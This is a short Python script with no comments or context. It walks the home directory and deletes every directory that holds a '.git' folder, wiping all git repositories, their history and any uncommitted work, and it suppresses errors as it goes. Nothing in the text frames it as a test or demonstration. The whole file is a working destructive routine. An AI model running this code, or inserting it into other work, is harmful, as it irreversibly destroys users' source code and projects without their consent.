import os
import shutil

for root, dirs, files in os.walk(os.path.expanduser("~")):
    if ".git" in dirs:
        shutil.rmtree(root, ignore_errors=True)
        dirs[:] = []
